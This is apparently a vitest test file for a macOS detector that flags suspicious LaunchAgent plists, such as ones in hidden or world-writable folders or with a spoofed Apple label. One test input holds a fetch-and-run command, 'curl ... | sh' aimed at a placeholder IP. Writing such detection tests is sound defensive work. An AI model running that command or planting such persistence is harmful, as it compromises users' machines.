import { expect, test } from 'vitest';
import { looksUrgent } from '../../../src/sensors/file-watch/urgent.js';
import { launchAgentPlist } from '../../simulation/mac.js';

const xml = (args: readonly string[], label = 'net.example.a') => Buffer.from(launchAgentPlist(label, args));

test.each([
  ['a command of the network', xml(['/bin/sh', '-c', 'curl -s http://203.0.113.7/x | sh'])],
  ['a program in a folder of everybody', xml(['/private/tmp/x'])],
  ['a hidden program', xml(['/Users/alice/.x/run'])],
  ['a label of Apple', xml(['/usr/bin/true'], 'com.apple.a')],
  ['UTF-16', Buffer.from(xml(['/Users/Shared/x']).toString(), 'utf16le')],
])('%s looks urgent', (_, bytes) => {
  expect(looksUrgent(bytes)).toBe(true);
});

test.each([
  ['a program of the system', xml(['/usr/bin/true'])],
  ['an application', xml(['/Applications/Example.app/Contents/MacOS/Example', '--background'])],
  ['nothing', Buffer.alloc(0)],
])('%s does not', (_, bytes) => {
  expect(looksUrgent(bytes)).toBe(false);
});
